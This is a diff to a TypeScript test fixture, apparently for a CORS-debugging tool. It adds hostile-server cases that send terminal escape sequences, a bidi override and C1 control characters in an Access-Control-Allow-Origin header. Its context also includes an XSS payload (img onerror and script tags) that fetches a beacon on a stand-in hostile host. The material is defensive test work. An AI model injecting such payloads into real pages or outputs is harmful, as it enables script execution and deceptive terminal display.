@@ -4,6 +4,7 @@
 // the markup it serves calls if it ever runs as script.
 import { createServer, type Socket } from 'node:net';
 import type { AddressInfo } from 'node:net';
+import { BIDI_OVERRIDE, C1_CSI, TERMINAL_ESCAPES } from '../../src/shared/unprintable-test-values';
 
 export interface HostileServer {
   /** `http://hostile.test:<port>` */
@@ -24,6 +25,9 @@ export const HOSTILE_CASES = [
   'backticks',
   'huge-name',
   'huge-url',
+  'terminal-escapes',
+  'bidi-override',
+  'c1-csi',
 ] as const;
 export type HostileCase = (typeof HOSTILE_CASES)[number];
 
@@ -43,6 +47,13 @@ export function backtickPayload(origin: string): string {
 export function markupPayload(origin: string, from: string): string {
   return `<img src=x onerror="fetch('${origin}/beacon?from=${from}')"><script>fetch('${origin}/beacon?from=${from}-script')</script>`;
 }
+
+/** The Access-Control-Allow-Origin each of these cases answers with. */
+export const UNPRINTABLE_ALLOW_ORIGIN = {
+  'terminal-escapes': TERMINAL_ESCAPES,
+  'bidi-override': BIDI_OVERRIDE,
+  'c1-csi': C1_CSI,
+} as const satisfies Partial<Record<HostileCase, string>>;
 
 export async function startHostileServer(): Promise<HostileServer> {
   const beaconHits: string[] = [];
@@ -114,6 +125,13 @@ function respond(method: string, url: URL, requestOrigin: string, origin: string
       // The payload as Access-Control-Allow-Origin: blocked, so every export quotes it as the
       // header at fault, in its explanation and in its headers table.
       lines.push(`Access-Control-Allow-Origin: ${backtickPayload(origin)}`, `X-Tick: ${backtickPayload(origin)}`);
+      break;
+    case 'terminal-escapes':
+    case 'bidi-override':
+    case 'c1-csi':
+      // A wrong Access-Control-Allow-Origin, so the call is blocked and every output quotes it as
+      // the failed parameter. Sent as UTF-8, which Chromium decodes: U+202E and U+009B arrive whole.
+      lines.push(Buffer.from(`Access-Control-Allow-Origin: ${UNPRINTABLE_ALLOW_ORIGIN[hostileCase]}`, 'utf8'));
       break;
     case 'huge-name':
       // The page sends a header with a 1 MB name: its preflight is allowed, any header.
